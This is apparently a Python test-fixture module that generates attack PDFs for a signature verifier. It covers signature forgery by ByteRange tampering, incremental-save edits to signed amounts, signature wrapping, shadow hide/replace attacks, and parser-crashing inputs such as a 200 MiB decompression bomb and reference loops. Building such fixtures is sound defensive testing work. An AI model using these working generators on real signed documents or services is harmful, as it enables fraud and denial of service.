"""Attack documents made from signed PDFs, and hostile inputs made from nothing.

Families (names follow the PDF-insecurity literature, Mladenov et al. 2019 and Mainka et al.
2021): universal signature forgery (USF), incremental saving attacks (ISA), signature wrapping
(SWA), shadow attacks (hide, replace, hide-and-replace), appended trailing data; and hostile
inputs: decompression bomb, reference loops, deep nesting, truncation, garbage, object floods.
Byte-level edits keep every length, so the xref offsets stay right and only the attacked
property changes.
"""

from __future__ import annotations

import io
import re
import zlib
from functools import cache

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

__all__ = [
    "append_trailing_data",
    "byte_range_removed",
    "byte_range_shifted",
    "byte_range_shrunk",
    "byte_range_zeroed",
    "change_page_content",
    "contents_emptied",
    "decompression_bomb",
    "deep_nesting",
    "field_kids_loop",
    "garbage",
    "huge_signature_contents",
    "object_flood",
    "page_added",
    "reference_chain_loop",
    "replace_stamp_image",
    "shadow_base_pdf",
    "shadow_hide_and_replace_override",
    "shadow_hide_by_form_filling",
    "shadow_hide_overlay_removed",
    "shadow_replace_swap_contents",
    "signature_wrapping",
    "truncated",
]

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def _last_byte_range(doc: bytes) -> re.Match[bytes]:
    matches = list(_BYTE_RANGE.finditer(doc))
    assert matches, "no /ByteRange in the document"
    return matches[-1]


def _rewrite_byte_range(doc: bytes, values: bytes) -> bytes:
    match = _last_byte_range(doc)
    width = match.end() - match.start()
    replacement = values.ljust(width)
    assert len(replacement) == width, "the new /ByteRange does not fit in the old one's place"
    return doc[: match.start()] + replacement + doc[match.end() :]


def _ranges(doc: bytes) -> tuple[int, int, int, int]:
    a, b, c, d = (int(v) for v in _last_byte_range(doc).groups())
    return a, b, c, d


# -- universal signature forgery ----------------------------------------------------------------


def byte_range_removed(doc: bytes) -> bytes:
    match = _last_byte_range(doc)
    return doc[: match.start()] + b" " * (match.end() - match.start()) + doc[match.end() :]


def byte_range_zeroed(doc: bytes) -> bytes:
    return _rewrite_byte_range(doc, b"/ByteRange [0 0 0 0]")


def byte_range_shifted(doc: bytes) -> bytes:
    a, b, c, d = _ranges(doc)
    return _rewrite_byte_range(doc, b"/ByteRange [%d %d %d %d]" % (a, b, c + 64, d - 64))


def byte_range_shrunk(doc: bytes) -> bytes:
    a, b, c, d = _ranges(doc)
    return _rewrite_byte_range(doc, b"/ByteRange [%d %d %d %d]" % (a, b, c, d - 200))


def contents_emptied(doc: bytes) -> bytes:
    _, b, c, _ = _ranges(doc)
    # Between '<' at b and '>' at c-1: the CMS becomes all zeros (an empty signature).
    return doc[: b + 1] + b"0" * (c - b - 2) + doc[c - 1 :]


# -- incremental saving attacks -----------------------------------------------------------------


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def change_page_content(doc: bytes, text: bytes = b"So tien: 999.000.000 VND") -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(doc))
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 14 Tf 72 740 Td (%s) Tj ET" % text)
    page["/Contents"] = writer.add_object(stream)
    writer.mark_update(page_ref)
    return _write(writer)


def page_added(doc: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(doc))
    pages_ref = writer.root.raw_get("/Pages")
    pages = pages_ref.get_object()
    content = writer.add_object(
        generic.StreamObject(stream_data=b"BT /F1 14 Tf 72 770 Td (Phu luc gia mao) Tj ET")
    )
    page = generic.DictionaryObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Page"),
            generic.pdf_name("/Parent"): pages_ref,
            generic.pdf_name("/MediaBox"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (0, 0, 595, 842)]
            ),
            generic.pdf_name("/Contents"): content,
        }
    )
    pages["/Kids"].append(writer.add_object(page))
    pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.mark_update(pages_ref)
    return _write(writer)


def _find_image(container_ref: generic.IndirectObject, depth: int = 0):
    """(indirect ref of the stream whose resources hold an image, XObject name), or None."""
    if depth > 6:
        return None
    stream = container_ref.get_object()
    xobjects = stream.get("/Resources", generic.DictionaryObject()).get("/XObject", {})
    for name in list(xobjects.keys()):
        ref = xobjects.raw_get(name)
        obj = ref.get_object()
        if obj.get("/Subtype") == "/Image":
            return container_ref, name
        if obj.get("/Subtype") == "/Form" and isinstance(ref, generic.IndirectObject):
            found = _find_image(ref, depth + 1)
            if found is not None:
                return found
    return None


def replace_stamp_image(doc: bytes) -> bytes:
    """Replace the image inside the first visible signature stamp (the red seal, say)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(doc))
    fields = writer.root["/AcroForm"]["/Fields"]
    for index in range(len(fields)):
        field_ref = fields.raw_get(index)
        field = field_ref.get_object()
        ap = field.get("/AP")
        if ap is None or "/N" not in ap:
            continue
        found = _find_image(ap.raw_get("/N"))
        if found is None:
            continue
        container_ref, name = found
        image = generic.StreamObject(
            {
                generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
                generic.pdf_name("/Subtype"): generic.pdf_name("/Image"),
                generic.pdf_name("/Width"): generic.NumberObject(1),
                generic.pdf_name("/Height"): generic.NumberObject(1),
                generic.pdf_name("/ColorSpace"): generic.pdf_name("/DeviceRGB"),
                generic.pdf_name("/BitsPerComponent"): generic.NumberObject(8),
            },
            stream_data=b"\x00\x80\x00",
        )
        container = container_ref.get_object()
        container["/Resources"]["/XObject"][name] = writer.add_object(image)
        writer.mark_update(container_ref)
        return _write(writer)
    raise AssertionError("no stamp image found in the document")


# -- signature wrapping ---------------------------------------------------------------------------


def signature_wrapping(doc: bytes) -> bytes:
    """Move the second signed part behind inserted objects, point /ByteRange at its new place,
    and append a fresh xref so that the result parses (the attacker's full job)."""
    a, b, c, d = _ranges(doc)
    inserted = (
        b"\n99 0 obj\n<< /Length 44 >>\nstream\n"
        b"BT /F1 14 Tf 72 700 Td (Gia mao) Tj ET    \nendstream\nendobj\n"
    )
    moved = doc[:c] + inserted + doc[c:]
    moved = _rewrite_byte_range(moved, b"/ByteRange [%d %d %d %d]" % (a, b, c + len(inserted), d))
    return _with_fresh_xref(moved)


def _with_fresh_xref(doc: bytes) -> bytes:
    """``doc`` plus one classic xref section listing every ``N 0 obj`` at its current offset."""
    offsets = {int(m.group(1)): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj\b", doc)}
    root = re.findall(rb"/Root (\d+) 0 R", doc)[-1]
    size = max(offsets) + 1
    rows = [b"0000000000 65535 f \n"]
    rows += [
        b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 00000 f \n"
        for n in range(1, size)
    ]
    xref = len(doc) + 1
    return (
        doc
        + b"\nxref\n0 %d\n" % size
        + b"".join(rows)
        + b"trailer\n<< /Size %d /Root %s 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    )


# -- appended data --------------------------------------------------------------------------------


def append_trailing_data(doc: bytes) -> bytes:
    return doc + b"\n5000 0 obj\n<< /Type /Annot /Subtype /Text /Contents (gia mao) >>\nendobj\n"


# -- shadow attacks -------------------------------------------------------------------------------


def _pdf(
    objects: list[bytes], root: int, *, header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
) -> bytes:
    out = io.BytesIO()
    out.write(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, root, xref)
    )
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def shadow_base_pdf() -> bytes:
    """A page with content hidden under an overlay annotation (a white box) and under a text
    field's appearance, plus an unused alternative content stream (object 3)."""
    white = b"1 1 1 rg 0 0 340 30 re f"
    objects = [
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",  # 1
        _stream(  # 2: the page's content
            b"BT /F1 14 Tf 72 770 Td (Quyet dinh: dong y cap phep) Tj ET "
            b"BT /F1 14 Tf 72 700 Td (So tien: 900.000.000 VND) Tj ET "
            b"BT /F1 14 Tf 72 610 Td (Ghi chu: khong duyet) Tj ET"
        ),
        _stream(b"BT /F1 14 Tf 72 770 Td (Quyet dinh: tu choi) Tj ET"),  # 3: unused alternative
        b"<< /Type /Annot /Subtype /Square /Rect [60 690 400 720] /F 4 /C [1 1 1] "
        b"/IC [1 1 1] /AP << /N 5 0 R >> >>",  # 4: overlay hiding the amount
        _stream(white, b"/Type /XObject /Subtype /Form /BBox [0 0 340 30] "),  # 5
        b"<< /FT /Tx /T (ghi_chu) /V (da duyet) /Type /Annot /Subtype /Widget "
        b"/Rect [60 600 400 630] /F 4 /P 7 0 R /DA (/F1 12 Tf 0 g) /AP << /N 8 0 R >> >>",  # 6
        b"<< /Type /Page /Parent 9 0 R /MediaBox [0 0 595 842] /Contents 2 0 R "
        b"/Resources << /Font << /F1 1 0 R >> >> /Annots [4 0 R 6 0 R] >>",  # 7
        _stream(  # 8: the field's appearance: a white box with "da duyet" over the real note
            white + b" BT /F1 12 Tf 0 g 4 10 Td (Ghi chu: da duyet) Tj ET",
            b"/Type /XObject /Subtype /Form /BBox [0 0 340 30] "
            b"/Resources << /Font << /F1 1 0 R >> >> ",
        ),
        b"<< /Type /Pages /Kids [7 0 R] /Count 1 >>",  # 9
        b"<< /Type /Catalog /Pages 9 0 R /AcroForm << /Fields [6 0 R] "
        b"/DA (/F1 12 Tf 0 g) /DR << /Font << /F1 1 0 R >> >> >> >>",  # 10
    ]
    return _pdf(objects, root=10)


def shadow_hide_overlay_removed(doc: bytes) -> bytes:
    """Hide: the overlay that covered the amount is removed from the page after signing."""
    writer = IncrementalPdfFileWriter(io.BytesIO(doc))
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    annots = page["/Annots"]
    refs = [annots.raw_get(i) for i in range(len(annots))]
    page["/Annots"] = generic.ArrayObject(
        [ref for ref in refs if ref.get_object().get("/Subtype") != "/Square"]
    )
    writer.mark_update(page_ref)
    return _write(writer)


def shadow_hide_by_form_filling(doc: bytes) -> bytes:
    """Hide via a form field: the field's value and appearance change after signing (form
    filling, which a signature's DocMDP permission may allow), revealing what it covered."""
    writer = IncrementalPdfFileWriter(io.BytesIO(doc))
    fields = writer.root["/AcroForm"]["/Fields"]
    for index in range(len(fields)):
        field_ref = fields.raw_get(index)
        field = field_ref.get_object()
        if field.get("/T") == "ghi_chu":
            appearance = generic.StreamObject(
                {
                    generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
                    generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
                    generic.pdf_name("/BBox"): generic.ArrayObject(
                        [generic.NumberObject(v) for v in (0, 0, 340, 30)]
                    ),
                },
                stream_data=b"",
            )
            field["/V"] = generic.TextStringObject("")
            field["/AP"] = generic.DictionaryObject(
                {generic.pdf_name("/N"): writer.add_object(appearance)}
            )
            writer.mark_update(field_ref)
            return _write(writer)
    raise AssertionError("no ghi_chu field")


def shadow_replace_swap_contents(doc: bytes) -> bytes:
    """Replace: the page now shows the unused alternative content stream (object 3)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(doc))
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    page["/Contents"] = generic.IndirectObject(3, 0, writer)
    writer.mark_update(page_ref)
    return _write(writer)


def shadow_hide_and_replace_override(doc: bytes) -> bytes:
    """Hide-and-replace: object 2 (the page content) is redefined in an appended revision."""
    writer = IncrementalPdfFileWriter(io.BytesIO(doc))
    content_ref = generic.IndirectObject(2, 0, writer)
    stream = content_ref.get_object()
    stream._data = b"BT /F1 14 Tf 72 770 Td (Quyet dinh: tu choi) Tj ET"
    stream._encoded_data = None
    writer.mark_update(content_ref)
    return _write(writer)


# -- hostile inputs -------------------------------------------------------------------------------


@cache
def decompression_bomb() -> bytes:
    """The catalog lives in an object stream that inflates to 200 MiB (≈ 1000:1)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    body = b""
    header_parts = []
    for number, obj in enumerate(objects, start=1):
        header_parts.append(b"%d %d" % (number, len(body)))
        body += obj + b" "
    header = b" ".join(header_parts) + b" "
    inflated = header + body + b" " * (200 * 1024 * 1024)
    compressed = zlib.compress(inflated, 9)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    objstm_offset = out.tell()
    out.write(
        b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
        % (len(header), len(compressed))
    )
    out.write(compressed + b"\nendstream\nendobj\n")
    xref_offset = out.tell()
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    rows += [b"\x02" + (4).to_bytes(4, "big") + i.to_bytes(2, "big") for i in range(3)]
    rows.append(b"\x01" + objstm_offset.to_bytes(4, "big") + b"\x00\x00")
    rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")
    data = b"".join(rows)
    out.write(
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(data)
    )
    out.write(data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset)
    return out.getvalue()


def reference_chain_loop() -> bytes:
    """/Pages resolves through objects that refer to each other and never to a dictionary."""
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"3 0 R", b"2 0 R"], root=1)


def field_kids_loop() -> bytes:
    """An AcroForm whose field is its own kid (and a signature-looking value)."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /T (loop) /Kids [4 0 R 5 0 R] >>",
            b"<< /FT /Sig /T (child) /Parent 4 0 R /Kids [4 0 R] >>",
        ],
        root=1,
    )


def deep_nesting(depth: int = 200_000) -> bytes:
    return _pdf([b"<< /Type /Catalog /Pages " + b"[" * depth + b"]" * depth + b" >>"], root=1)


def huge_signature_contents(hex_digits: int = 16_000_000) -> bytes:
    """A signature field whose /Contents is a very long hex string (slow for pyHanko's stock
    reader, which reads it one byte per call)."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /FT /Sig /T (Signature1) /V 5 0 R >>",
            b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
            b"/ByteRange [0 1 2 3] /Contents <" + b"30" * (hex_digits // 2) + b"> >>",
        ],
        root=1,
    )


def truncated(doc: bytes) -> bytes:
    return doc[: len(doc) // 2]


def garbage(size: int = 4096) -> bytes:
    import random

    return random.Random(6).randbytes(size)


def object_flood(count: int = 300_000) -> bytes:
    """Many tiny objects (above the default object limit)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    objects += [b"null"] * count
    return _pdf(objects, root=1)
